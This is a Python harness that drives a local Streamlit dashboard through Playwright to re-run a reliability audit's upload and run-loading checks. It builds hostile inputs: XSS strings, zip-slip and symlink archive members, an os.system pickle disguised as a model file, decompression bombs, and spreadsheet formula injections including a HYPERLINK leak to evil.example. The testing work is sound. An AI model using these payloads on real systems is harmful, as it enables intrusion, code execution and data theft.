"""Re-run of the reliability audit's dashboard and configuration rows (217-280) in a real browser.

Audit: /work/shared/reviews/reliability-audit.md ("Everything tried", rows 217-280; the CLI rows are re-run by
bench/hostile.py, whose input generators are reused here). Not part of CI: it takes 10-20 minutes on 2 cores.

    .venv/bin/python bench/hostile_dashboard.py [TREE] [--out table.md] [--skip-slow]

TREE is the checkout to serve (default: this repository). The harness starts its own Streamlit server on a free
port exactly as the README says (`streamlit run dashboard/app.py --server.headless true --server.port P`, so the
bind address comes from TREE/.streamlit/config.toml), with a private TMPDIR, and drives /usr/bin/chromium through
Playwright. While it runs it samples the server's RSS (psutil), counts `ltsi-*` folders in the server's temp dir
before and after each row, and runs a loopback HTTP listener that logs any fetch the page makes (Markdown images in
the data point at it). Every verdict is decided from what was observed, in the audit's words: OK, CLEAN, GENERIC,
SILENT, CRASH, RESOURCE, LEAK, INJECTION, DOS, EXPOSURE, HANG. The Markdown table goes to stdout (or --out).
"""

from __future__ import annotations

import argparse
import csv
import gzip
import http.client
import http.server
import io
import os
import pickle
import random
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import tomllib
import urllib.request
import zipfile
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import hostile  # noqa: E402  the CLI re-run: its run-folder tampering (legacy, mc) and gzip members
import numpy as np  # noqa: E402
import psutil  # noqa: E402
import pyarrow as pa  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402

CHROMIUM = Path(os.environ.get("LTSI_CHROMIUM", "/usr/bin/chromium"))
LAUNCH_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"]
IDLE = "[data-testid='stApp'][data-test-script-state='notRunning']"
ERROR_ALERT = "[data-testid='stAlertContentError']"
EXCEPTION = "[data-testid='stException']"
MIB = 1 << 20
RESOURCE_MB = 1000  # a single small upload that raises the server's RSS by more than this is a memory DoS
DISK_RESOURCE_BYTES = 1 << 30  # a < 2 MB upload that leaves more than this on disk for the session's life
SLOT_FREED_S = 75.0  # "closing the tab stops the training within about a minute"


# ---------------------------------------------------------------- observation


@dataclass
class Row:
    number: int
    what: str
    where: str
    expected: str
    observed: str = ""
    verdict: str = ""


class RssSampler(threading.Thread):
    """The server's resident memory every 0.25 s; `peak_since(mark)` is the highest sample after a mark."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.process = psutil.Process(pid)
        self.samples: list[tuple[float, int]] = []
        self.done = threading.Event()

    def run(self) -> None:
        while not self.done.is_set():
            try:
                self.samples.append((time.monotonic(), self.process.memory_info().rss))
            except psutil.Error:
                return
            time.sleep(0.25)

    def now_mb(self) -> int:
        return self.process.memory_info().rss // MIB

    def peak_since(self, since: float) -> int:
        return max((rss for t, rss in self.samples if t >= since), default=0) // MIB


class FetchLog(http.server.BaseHTTPRequestHandler):
    """Loopback listener: every GET is remembered (a Markdown image from the data that the browser fetched)."""

    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        FetchLog.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def ltsi_folders(tmp: Path) -> set[str]:
    return {p.name for p in tmp.glob("ltsi-*")}


def tree_bytes(tmp: Path) -> int:
    return sum(f.stat().st_size for f in tmp.rglob("*") if f.is_file() and not f.is_symlink())


def outside_files(token: str, roots: list[Path], private: Path | None = None) -> list[str]:
    """Files named pwned-TOKEN… outside the server's private temp dir `private` (a zip-slip or a pickle ran)."""
    found = set()
    for root in roots:
        for dirpath, _, names in os.walk(root):
            if private is not None and Path(dirpath).is_relative_to(private):
                continue
            found |= {os.path.join(dirpath, n) for n in names if f"pwned-{token}" in n}
    return sorted(found)


# ---------------------------------------------------------------- server


class Server:
    def __init__(self, tree: Path, work: Path) -> None:
        self.tree, self.port = tree, free_port()
        self.tmp = work / "server-tmp"
        self.tmp.mkdir()
        self.log_path = work / "streamlit.log"
        env = {**os.environ, "PYTHONPATH": str(tree), "TMPDIR": str(self.tmp), "PYTHONUNBUFFERED": "1"}
        env.pop("LTSI_MAX_TRAININGS", None)  # the default: one training slot
        self.log = self.log_path.open("w")
        streamlit = Path(sys.executable).with_name("streamlit")
        self.process = subprocess.Popen(
            [str(streamlit), "run", "dashboard/app.py", "--server.headless", "true", "--server.port", str(self.port)],
            cwd=tree,
            env=env,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        self.url = f"http://127.0.0.1:{self.port}"
        deadline = time.time() + 90
        while True:
            try:
                if urllib.request.urlopen(f"{self.url}/_stcore/health", timeout=2).read().strip() == b"ok":
                    break
            except OSError:
                pass
            if self.process.poll() is not None or time.time() > deadline:
                raise RuntimeError(f"streamlit did not start; see {self.log_path}")
            time.sleep(0.5)
        self.rss = RssSampler(self.process.pid)
        self.rss.start()

    def stop(self) -> None:
        self.rss.done.set()
        self.process.terminate()
        try:
            self.process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        self.log.close()


# ---------------------------------------------------------------- inputs


def write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def small_log(n_users: int = 6, n_events: int = 20, seed: int = 0) -> str:
    rng = random.Random(seed)
    rows = ["user_id,item_id,timestamp"]
    rows += [
        f"u{u},i{rng.randrange(12)},{1_700_000_000 + 3600 * u + 60 * k}"
        for u in range(n_users)
        for k in range(n_events)
    ]
    return "\n".join(rows) + "\n"


def log_of_size(megabytes: float, seed: int) -> str:
    """A realistic log (power-law items) of about `megabytes`: the memory rows upload it repeatedly."""
    rng = np.random.default_rng(seed)
    n = int(megabytes * MIB / 24)
    users = rng.integers(0, 3000, n)
    items = (rng.pareto(1.2, n) * 50).astype(int) % 5000
    times = 1_700_000_000 + np.sort(rng.integers(0, 10_000_000, n))
    body = "\n".join(f"user{u},item{i},{t}" for u, i, t in zip(users, items, times))
    return f"user_id,item_id,timestamp\n{body}\n"


def data_inputs(d: Path, token: str) -> dict[int, Path]:
    """The Data-view uploads of rows 217-235 (and 279's bomb of CSV rows)."""
    f: dict[int, Path] = {}
    good = small_log()
    f[217] = write(d / "empty.csv", b"")
    f[218] = write(d / "blank.csv", "\n   \n\t\n\n")
    f[219] = write(d / "image.png.csv", b"\x89PNG\r\n\x1a\n" + os.urandom(2048))
    f[220] = write(d / "junk.bin.csv", os.urandom(64 * 1024) + b"\0")
    f[221] = write(d / "garbage.csv.gz", b"\x1f\x8b\x08\x00" + os.urandom(4096))
    whole = gzip.compress(log_of_size(0.2, 1).encode())
    f[222] = write(d / "truncated.csv.gz", whole[: len(whole) // 2])
    f[223] = write(d / "cut_utf16.csv", good.encode("utf-16") + b"A")
    n = 40
    ts = pa.array(
        np.arange(n, dtype="int64") * 3_600_000_000 + 1_700_000_000_000_000, pa.timestamp("us", tz="Europe/Paris")
    )
    users = pa.array([b"\xff\xfeu" + bytes([i % 5]) for i in range(n)], pa.binary())
    items = pa.array([f"i{i % 7}" for i in range(n)]).dictionary_encode()
    f[224] = d / "binary.parquet"
    pq.write_table(pa.table({"user_id": users, "item_id": items, "timestamp": ts}), f[224])
    rows = "".join(
        f'{{"user_id": "u{i % 5}", "item_id": "i{i % 7}", "timestamp": {1_700_000_000 + 60 * i}}}\n' for i in range(30)
    )
    f[225] = write(d / "deep.jsonl", rows + '{"user_id": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    wide = ",".join(f"c{i}" for i in range(1_000_000))
    f[226] = write(d / "wide.csv", wide + "\n" + "\n".join(",".join(["1"] * (3 + k)) for k in range(3)) + "\n")
    inner = good.encode()
    name = "events.csv"
    for level in range(6):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(name, inner)
        inner, name = buffer.getvalue(), f"level{level}.zip"
    f[227] = write(d / "nested6.zip", inner)
    xss_ids = [
        "<script>window.__xss228=1</script>",
        "<img src=x onerror=window.__xss228=1>",
        '"><svg onload=window.__xss228=1>',
        "[x](javascript:window.__xss228=1)",
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["user_id", "item_id", "timestamp"])
    for u, uid in enumerate(xss_ids + ["u5", "u6"]):
        for k in range(10):
            writer.writerow([uid, xss_ids[(u + k) % 4] if k % 2 else f"i{k}", 1_700_000_000 + 3600 * u + 60 * k])
    f[228] = write(d / "xss_ids.csv", buffer.getvalue())
    f[229] = d / "slip_log.zip"
    with zipfile.ZipFile(f[229], "w") as zf:
        zf.writestr(f"../../../..{d}/pwned-{token}-log_zip.csv", good)
    lines = good.splitlines()
    f[230] = write(d / "header_repeated.csv", "\n".join(lines[:40] + [lines[0]] + lines[40:] + [lines[0]]) + "\n")
    f[231] = write(d / "par1.parquet", b"PAR1" + os.urandom(4096) + b"PAR1")
    f[232] = d / "nested_types.parquet"
    pq.write_table(
        pa.table(
            {
                "user_id": pa.array([[i % 5] for i in range(n)], pa.list_(pa.int64())),
                "item_id": pa.array([{"a": i % 7} for i in range(n)]),
                "timestamp": pa.array([[("k", i)] for i in range(n)], pa.map_(pa.string(), pa.int64())),
            }
        ),
        f[232],
    )
    f[233] = write(d / "one_line.csv", b"a" * (64 * MIB))
    f[234] = write(d / f"<img src=x onerror=window.__xss234=1>**bold**{token}.csv", good)
    one_mib = gzip.compress(b"\0" * MIB, 9)
    f[235] = write(d / "bomb_nested_2g.csv.gz", gzip.compress(one_mib * 2048, 9))  # 5 KB -> 2 GiB of zeros
    rows_mib = b"u1,i1,1700000000\n" * (MIB // 17)
    f[279] = write(
        d / "bomb_csv_rows_2g.csv.gz",
        gzip.compress(b"user_id,item_id,timestamp\n", 9) + hostile.gz_members(rows_mib, 2048),
    )
    return f


def zip_of(folder: Path, path: Path, extra: list[tuple[zipfile.ZipInfo | str, bytes]] = (), skip=()) -> Path:
    """The run folder as a zip (files at the root, as the Export page makes it), plus hostile members."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for file in sorted(folder.iterdir()):
            if file.is_file() and file.name not in skip:
                zf.write(file, file.name)
        for info, data in extra:
            zf.writestr(info, data)
    return path


def link(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777 << 16) | 0x20  # a Unix symlink
    return info


def add_zero_member(path: Path, name: str, size: int) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w", force_zip64=True) as m:
        block = b"\0" * (16 * MIB)
        for _ in range(size // len(block)):
            m.write(block)


def understate_size(path: Path, member: str, size: int) -> None:
    """Rewrite the central directory so that `member`'s uncompressed size is smaller than it is."""
    data = bytearray(path.read_bytes())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_len] == member.encode():
            struct.pack_into("<I", data, at + 24, size)
            break
        at += 4
    path.write_bytes(bytes(data))


class Pwn:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def run_zip_inputs(d: Path, base: Path, token: str, one_item: Path | None, one_user: Path | None) -> dict[int, Path]:
    """The 'Load a saved run' uploads of rows 236-259, built from a CLI-trained run folder."""
    z: dict[int, Path] = {}
    L = lambda name, **kw: hostile.legacy(base, d / name, **kw)  # noqa: E731 - pre-manifest copy, then tampered
    mc = hostile.mc
    payload = b"pwned\n"
    z[236] = zip_of(base, d / "ok_run.zip")
    z[237] = zip_of(base, d / "zipslip.zip", [(f"../../../..{d}/pwned-{token}-zipslip.txt", payload)])
    z[238] = zip_of(base, d / "zipslip2.zip", [(f"run/../../../..{d}/pwned-{token}-zipslip2.txt", payload)])
    z[239] = zip_of(base, d / "abs.zip", [(f"{d}/pwned-{token}-abs.txt", payload)])
    z[240] = zip_of(base, d / "backslash.zip", [(f"..\\..\\..\\tmp\\pwned-{token}-backslash.txt", payload)])
    z[241] = zip_of(base, d / "symlink.zip", [(link("evil_link", "/etc/passwd"), b"/etc/passwd")])
    z[242] = zip_of(
        base, d / "symdir.zip", [(link("sub", str(d)), str(d).encode()), (f"sub/pwned-{token}-symdir.txt", payload)]
    )
    z[243] = zip_of(
        L("pickled"),
        d / "pickle.zip",
        [("model.safetensors", pickle.dumps(Pwn(f"touch {d}/pwned-{token}-pickle")))],
        skip=("model.safetensors",),
    )
    z[244] = zip_of(
        L("unexpected", cfg=lambda c: (c.update(surprise=1), c["model_config"].update(extra=2))), d / "k.zip"
    )
    z[245] = zip_of(L("dimstr", cfg=mc(dim="64")), d / "config_dim_string.zip")
    z[246] = zip_of(L("cutoff", cfg=lambda c: c["split"].update(cutoff="not a date")), d / "cutoff.zip")
    z[247] = zip_of(base, d / "lying_size.zip", [("pad.bin", b"a" * MIB)])
    understate_size(z[247], "pad.bin", 1000)
    z[248] = zip_of(base, d / "no_config.zip", skip=("config.json",))
    z[249] = write(d / "hello.zip", b"hello")
    z[250] = d / "big_2g.zip"
    with zipfile.ZipFile(z[250], "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("config.json", "{}")
    add_zero_member(z[250], "pad.bin", 2208 * MIB)  # 2.1 GiB
    z[251] = zip_of(base, d / "big_allowed_1_5g.zip")
    add_zero_member(z[251], "pad.bin", 1536 * MIB)
    z[252] = zip_of(L("bigfail", cfg=mc(dim="64")), d / "big_fail_1_5g.zip")
    add_zero_member(z[252], "pad.bin", 1536 * MIB)
    spaced = L("spaces")
    config = (spaced / "config.json").read_text()
    z[253] = zip_of(spaced, d / "config_1g_whitespace.zip", skip=("config.json",))
    with zipfile.ZipFile(z[253], "a", zipfile.ZIP_DEFLATED) as zf, zf.open("config.json", "w", force_zip64=True) as m:
        m.write(config.rstrip()[:-1].encode())
        for _ in range(64):
            m.write(b" " * (16 * MIB))
        m.write(b"}")

    def users_oor(a):
        a["split.test.users"][0] = 1_000_000

    def ts62(a):
        a["timestamps"][:] = 2**62

    z[254] = zip_of(L("nan", nan=True), d / "nan_weights.zip")
    if one_item is not None:
        z[255] = zip_of(one_item, d / "one_item.zip")
    z[256] = zip_of(L("oor", seq=users_oor), d / "split_users_oor.zip")
    z[257] = zip_of(L("ts62", seq=ts62, refp=True), d / "timestamps_2_62.zip")
    z[258] = zip_of(L("sw", cfg=mc(short_window=-5)), d / "short_window_minus5.zip")
    if one_user is not None:
        z[259] = zip_of(one_user, d / "one_user.zip")
    return z


ITEM_TITLES = [
    "<img src=x onerror=window.__xss_t=1>",
    "<script>window.__xss_s=1</script>",
    "[js](javascript:window.__xss_j=1)",
    "</script><script>window.__xss_c=1</script>",
    "<svg onload=window.__xss_v=1>",
    "see https://evil.example/title for more",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "Name;=1+1",
    "Other;+2",
    "plain 1",
    "plain 2",
]


def payload_data(d: Path, listener: str) -> tuple[Path, Path, dict[str, str]]:
    """Events + item table whose ids, titles, categories and event types are HTML / Markdown / formulas."""
    users = {
        263: f"![u]({listener}/user263.png)",
        264: "[phish](https://evil.example)",
        2641: "**bold_user**",
        260: "<img src=x onerror=window.__xss_u=1>",
    }
    ids = list(users.values()) + [f"plain{n}" for n in range(20)]
    rng = random.Random(7)
    events = d / "payload_events.csv"
    with events.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["user_id", "item_id", "timestamp", "event_type"])
        for u, uid in enumerate(ids):
            for k in range(14 + (10 if u == 0 else 0)):
                event = ["view", "<img src=y onerror=window.__xss_e=1>"][k % 2]
                writer.writerow([uid, f"it{rng.randrange(len(ITEM_TITLES))}", 1_700_000_000 + 3600 * u + 60 * k, event])
    items = d / "payload_items.csv"
    with items.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["item_id", "title", "category"])
        for i, title in enumerate(ITEM_TITLES):
            writer.writerow([f"it{i}", title, "<b>cat</b> [c](https://evil.example/c)" if i % 2 else "=1+2"])
    return events, items, {str(k): v for k, v in users.items()}


def cli(tree: Path, *args: object) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(tree)}
    return subprocess.run(
        [sys.executable, "-m", "ltsi", *map(str, args)], cwd=tree, env=env, capture_output=True, text=True, timeout=600
    )


def cli_run(tree: Path, d: Path, name: str, log_text: str) -> Path | None:
    """A tiny run trained by the CLI on `log_text` (None when the CLI refuses the log)."""
    log = write(d / f"{name}.csv", log_text)
    out = d / name
    done = cli(tree, "train", log, "--out", out, "--epochs", "1", "--dim", "8", "--quiet")
    return out if done.returncode == 0 else None


# ---------------------------------------------------------------- browser


def idle(page, timeout: float = 120_000) -> None:
    page.wait_for_timeout(400)
    page.wait_for_selector(IDLE, timeout=timeout)


def main_text(page) -> str:
    return page.locator("[data-testid='stApp']").inner_text()


def errors(page) -> list[str]:
    """The error messages on the page, without the icon's name that precedes them in the text."""
    return [re.sub(r"^error\s+", "", e.inner_text()) for e in page.locator(ERROR_ALERT).all()]


def xss_flags(page) -> list[str]:
    return page.evaluate("() => Object.keys(window).filter(k => k.startsWith('__xss'))")


def page_outcome(page) -> tuple[str, str]:
    """(verdict, observed) of a page that just finished: CRASH, GENERIC, CLEAN (an error that names the problem)."""
    if page.locator(EXCEPTION).count():
        return "CRASH", "uncaught exception box: " + page.locator(EXCEPTION).first.inner_text()[:160]
    found = errors(page)
    if any("Something went wrong" in e for e in found):
        return "GENERIC", next(e for e in found if "Something went wrong" in e)
    if found:
        return "CLEAN", found[0]
    return "OK", ""


def one_line(text: str, limit: int = 150) -> str:
    text = " ".join(text.split()).replace("|", "\\|")
    return text if len(text) <= limit else text[: limit - 1] + "…"


class Browser:
    def __init__(self, server: Server) -> None:
        from playwright.sync_api import sync_playwright

        self.server = server
        self._pw = sync_playwright().start()
        self.chromium = self._pw.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
        self.dialogs: list[str] = []

    def page(self, path: str = ""):
        context = self.chromium.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        page = context.new_page()
        page.set_default_timeout(120_000)
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(f"{self.server.url}/{path}")
        idle(page)
        return page

    def close(self) -> None:
        self.chromium.close()
        self._pw.stop()


def goto(page, view: str) -> None:
    page.get_by_test_id("stSidebarNav").get_by_text(view, exact=True).click()
    page.wait_for_url(f"**/{view.lower()}")
    idle(page)


def upload_events(page, path: Path, timeout: float = 300_000) -> bool:
    """Data view, 'Upload a file', the event log; False when the page never finished (HANG)."""
    page.get_by_text("Upload a file", exact=True).click()
    idle(page)
    page.locator("[data-testid='stFileUploaderDropzoneInput']").first.set_input_files(str(path))
    done = (
        page.get_by_text("Validation report")
        .or_(page.get_by_text("Nothing was loaded from"))
        .or_(page.locator(EXCEPTION))
        .or_(page.locator("[data-testid='stFileUploaderFileErrorMessage']"))
    )
    try:
        done.first.wait_for(timeout=timeout)
        idle(page, timeout)
        return True
    except Exception:  # noqa: BLE001 - Playwright's timeout: the page never finished
        return False


def load_run(page, path: Path, timeout: float = 300_000) -> bool:
    """Train view, 'Load a saved run', upload the zip and press 'Load this run'."""
    page.get_by_text("Load a saved run", exact=False).first.click()
    idle(page)
    page.locator("[data-testid='stFileUploaderDropzoneInput']").first.set_input_files(str(path))
    idle(page, timeout)
    page.get_by_role("button", name="Load this run").click()
    try:
        page.get_by_text("it is the active model now").or_(page.locator(ERROR_ALERT)).or_(
            page.locator(EXCEPTION)
        ).first.wait_for(timeout=timeout)
        idle(page, timeout)
        return True
    except Exception:  # noqa: BLE001 - Playwright's timeout
        return False


# ---------------------------------------------------------------- rows


def data_rows(b: Browser, inputs: dict[int, Path], work: Path, token: str) -> list[Row]:
    titles = {
        217: "0-byte file",
        218: "only blank lines/whitespace",
        219: "PNG renamed .csv",
        220: "64 KiB random bytes",
        221: "gzip header + random bytes",
        222: "gzip cut in half",
        223: "UTF-16 with BOM and an odd trailing byte (cut-off download)",
        224: "Parquet: binary user column, dictionary item column, tz-aware timestamps",
        225: "JSON line nested 100,000 deep",
        226: "10^6 columns (7 MB)",
        227: "6 levels of nested zip",
        228: 'ids <script>, <img onerror>, "><svg onload>, [x](javascript:)',
        229: "event-log zip whose member is ../../..<work>/pwned-….csv",
        230: "header line repeated mid-file and at the end",
        231: "PAR1 magic + random bytes",
        232: "Parquet list/struct/map columns",
        233: "one 64 MiB line",
        234: "file named <img src=x onerror=…>**bold**.csv",
        235: "nested gzip bomb, 5 KB -> 2 GiB",
        279: "gzip of 2 GiB of CSV rows, 5 MB",
    }
    rows = []
    for number, what in titles.items():
        if number not in inputs:
            continue
        expected = (
            "report, no script, no file written"
            if number in (228, 229, 230)
            else "name shown as text"
            if number == 234
            else "refused before expanding"
            if number in (235, 279)
            else "plain error, no traceback"
        )
        row = Row(number, what, "Data view upload", expected)
        page = b.page("data")
        before, mark = b.server.rss.now_mb(), time.monotonic()
        finished = upload_events(page, inputs[number])
        peak = b.server.rss.peak_since(mark)
        if not finished:
            row.verdict, row.observed = "HANG", "the page had not finished after 300 s"
        else:
            row.verdict, row.observed = page_outcome(page)
            if row.verdict == "OK":
                text = main_text(page)
                if "Validation report" in text:
                    row.observed = "report shown"
                else:
                    size_error = page.locator("[data-testid='stFileUploaderFileErrorMessage']")
                    row.verdict = "CLEAN" if size_error.count() else "SILENT"
                    row.observed = size_error.first.inner_text() if size_error.count() else "nothing shown"
        flags = xss_flags(page)
        if number in (228, 234):
            markup = page.evaluate(
                "() => [...document.querySelectorAll('strong, b, img[src=\"x\"]')]"
                ".filter(e => e.tagName === 'IMG' || e.textContent.trim() === 'bold')"
                ".map(e => e.parentElement.outerHTML.slice(0, 160))"
            )
            if flags or b.dialogs or markup:
                row.verdict = "INJECTION"
            row.observed += f"; script flags {flags or 'none'}; Markdown/HTML elements from the data: {markup or 0}"
        pwned = outside_files(token, [work, Path(tempfile.gettempdir())], b.server.tmp)
        if number == 229:
            row.observed += f"; files written outside: {len(pwned)}"
            if pwned:
                row.verdict = "INJECTION"
        if peak - before > RESOURCE_MB:
            row.verdict = "RESOURCE"
        row.observed = f"{row.observed}; server RSS {before} -> peak {peak} MB"
        rows.append(row)
        page.context.close()
        print(f"  #{number} {row.verdict}", file=sys.stderr, flush=True)
    return rows


def run_zip_rows(b: Browser, zips: dict[int, Path], work: Path, token: str) -> list[Row]:
    titles = {
        236: "valid run zip",
        237: "member ../../../..<work>/pwned….txt",
        238: "member run/../../../..<work>/pwned….txt",
        239: "member <work>/pwned….txt (absolute)",
        240: "member ..\\..\\..\\tmp\\pwned….txt",
        241: "symlink member -> /etc/passwd",
        242: "symlinked dir sub -> <work> + sub/file",
        243: "os.system pickle named model.safetensors",
        244: "config.json with unexpected keys",
        245: 'config dim "64" (TypeError)',
        246: "split.cutoff 'not a date'",
        247: "central directory under-states a member's size",
        248: "no config.json",
        249: "5 bytes 'hello'",
        250: "2.1 GiB member",
        251: "valid run + 1.5 GiB pad.bin",
        252: "1.5 GiB pad.bin + config that raises TypeError",
        253: "config.json padded with 1 GiB of spaces",
    }
    rows = []
    server = b.server
    for number, what in titles.items():
        row = Row(
            number,
            f"`{what}` ({zips[number].stat().st_size:,} bytes)",
            "Train view: Load a saved run",
            "refused, or loaded into a private temp dir; nothing outside",
        )
        page = b.page("train")
        folders_before = ltsi_folders(server.tmp)
        before, mark = server.rss.now_mb(), time.monotonic()
        finished = load_run(page, zips[number])
        peak = server.rss.peak_since(mark)
        if not finished:
            row.verdict, row.observed = "HANG", "no outcome after 300 s"
        else:
            row.verdict, row.observed = page_outcome(page)
            if row.verdict == "OK":
                loaded = page.get_by_text("it is the active model now")
                row.observed = loaded.first.inner_text() if loaded.count() else "nothing shown"
                row.verdict = "OK" if loaded.count() else "SILENT"
        on_disk = tree_bytes(server.tmp)
        loaded_ok = row.verdict == "OK"
        page.context.close()
        time.sleep(3)  # the session ends with its websocket; a failed load must have left nothing behind
        leaked = ltsi_folders(server.tmp) - folders_before
        pwned = outside_files(token, [work, Path(tempfile.gettempdir())], server.tmp)
        if pwned:
            row.verdict = "INJECTION"
            row.observed += f"; written outside: {pwned}"
        elif not loaded_ok and leaked:
            row.verdict = "LEAK"
            row.observed += f"; temp folder left: {sorted(leaked)} ({tree_bytes(server.tmp):,} bytes)"
        if loaded_ok and on_disk > DISK_RESOURCE_BYTES:
            row.verdict = "RESOURCE"
            row.observed += f"; {on_disk:,} bytes in the temp dir while the run is active"
        if peak - before > RESOURCE_MB:
            row.verdict = "RESOURCE"
        row.observed += f"; server RSS {before} -> peak {peak} MB"
        rows.append(row)
        print(f"  #{number} {row.verdict}", file=sys.stderr, flush=True)
    return rows


def views_after_load(page) -> tuple[str, list[str]]:
    """Visit Users, Model and Export after a load; the worst outcome and what each view said."""
    said, worst = [], "OK"
    rank = {"OK": 0, "CLEAN": 1, "GENERIC": 2, "CRASH": 3}
    for view in ("Users", "Model", "Export"):
        goto(page, view)
        page.wait_for_timeout(1500)
        idle(page)
        verdict, observed = page_outcome(page)
        if verdict != "OK":
            said.append(f"{view}: {observed}")
        worst = max(worst, verdict, key=rank.get)
    return worst, said


def export_csv_rows(page) -> int:
    with page.expect_download(timeout=180_000) as download:
        page.get_by_role("button", name="Download recommendations (CSV)").click()
    return len(Path(download.value.path()).read_text().splitlines()) - 1


def loaded_run_rows(b: Browser, zips: dict[int, Path]) -> list[Row]:
    titles = {
        254: ("run zip with NaN weights, then Users/Model/Export", "refused at load or a clear message"),
        255: ("run zip with a 1-item catalogue", "works or explains"),
        256: ("run zip with out-of-range split users, then Users", "refused at load or a clear message"),
        257: ("run zip with timestamps 2^62, then Users", "refused at load or a clear message"),
        258: ("run zip with short_window -5", "refused or flagged"),
        259: ("run zip with a single user", "works"),
    }
    rows = []
    for number, (what, expected) in titles.items():
        row = Row(number, what, "dashboard views", expected)
        if number not in zips:
            row.verdict, row.observed = (
                "OK",
                "not reproduced: the CLI refuses to train such a log (refused at the source)",
            )
            rows.append(row)
            continue
        page = b.page("train")
        if not load_run(page, zips[number]):
            row.verdict, row.observed = "HANG", "no outcome after 300 s"
        else:
            load_verdict, load_said = page_outcome(page)
            if load_verdict != "OK":  # refused at load
                row.verdict, row.observed = load_verdict, f"refused at load: {load_said}"
            else:
                notes = [a.inner_text() for a in page.locator("[data-testid='stAlert']").all()]
                worst, said = views_after_load(page)
                n_rows = export_csv_rows(page) if worst in ("OK", "CLEAN") else None
                row.observed = "loaded; " + ("; ".join(said) or "every view drawn")
                if n_rows is not None:
                    row.observed += f"; recommendations CSV {n_rows} rows"
                if worst in ("CRASH", "GENERIC"):
                    row.verdict = worst
                elif number == 258:
                    flagged = any("window" in n.lower() for n in notes)
                    row.verdict = "OK" if flagged else "SILENT"
                    row.observed += "; flagged on the Train page" if flagged else "; no word about the window"
                elif number in (254, 256, 257) and worst == "OK" and (n_rows or 0) == 0:
                    row.verdict = "SILENT"
                else:
                    row.verdict = "CLEAN" if worst == "CLEAN" else "OK"
        rows.append(row)
        page.context.close()
        print(f"  #{number} {row.verdict}", file=sys.stderr, flush=True)
    return rows


def wait_training(page, timeout: float = 240.0) -> None:
    """Press Train; accept the analyst's budget if the budget check asks."""
    page.get_by_role("button", name="Train", exact=True).click()
    anyway = page.get_by_role("button", name="Train with my budget anyway")
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if anyway.count() and anyway.is_visible():
            anyway.click()
            return
        text = main_text(page)
        if re.search(r"(Training|Measuring|Waiting) ·|waiting for a free training slot|Training finished", text):
            return
        page.wait_for_timeout(500)


def training_state(page) -> str:
    text = main_text(page)
    if "Training finished" in text:
        return "finished"
    if "waiting for a free training slot" in text or "Waiting ·" in text:
        return "waiting"
    if re.search(r"(Training|Measuring|Evaluating) ·", text):
        return "training"
    if page.get_by_role("button", name="Train with my budget anyway").count():
        page.get_by_role("button", name="Train with my budget anyway").click()
        return "asking"
    return "other"


def wait_state(page, wanted: set[str], timeout: float) -> tuple[str, float]:
    started = time.monotonic()
    state = "other"
    while time.monotonic() - started < timeout:
        state = training_state(page)
        if state in wanted:
            break
        page.wait_for_timeout(1000)
    return state, time.monotonic() - started


def trainer(b: Browser, demo: str, budget: int):
    page = b.page("data")
    page.get_by_text(demo, exact=True).click()
    idle(page)
    goto(page, "Train")
    page.get_by_role("spinbutton", name="Time budget (s)").fill(str(budget))
    page.get_by_role("spinbutton", name="Time budget (s)").press("Tab")
    return page


def training_rows(b: Browser) -> list[Row]:
    rows = []
    a = trainer(b, "MovieLens 100K", 0)
    wait_training(a)
    wait_state(a, {"training"}, 180)
    second = trainer(b, "E-commerce demo", 20)
    wait_training(second)
    b_state, _ = wait_state(second, {"waiting", "training"}, 60)
    stop_clicked = time.monotonic()
    a.get_by_role("button", name="Stop").click()
    a_state, a_secs = wait_state(a, {"finished"}, 120)
    b_started, b_secs = wait_state(second, {"training", "finished"}, 120)
    b_secs = time.monotonic() - stop_clicked
    queued = b_state == "waiting" and b_started in ("training", "finished")
    rows.append(
        Row(
            270,
            "Train in two sessions at once (ML-100k budget 0, e-commerce budget 20 s)",
            "Train view",
            "queue, lock or error",
            f"second session: '{b_state}' while the first trained, then '{b_started}' {b_secs:.1f} s after the Stop",
            "OK" if queued else "DOS",
        )
    )
    rows.append(
        Row(
            271,
            "Stop during training",
            "Train view",
            "stops promptly",
            f"'{a_state}' {a_secs:.1f} s after the click",
            "OK" if a_state == "finished" and a_secs <= 30 else "HANG",
        )
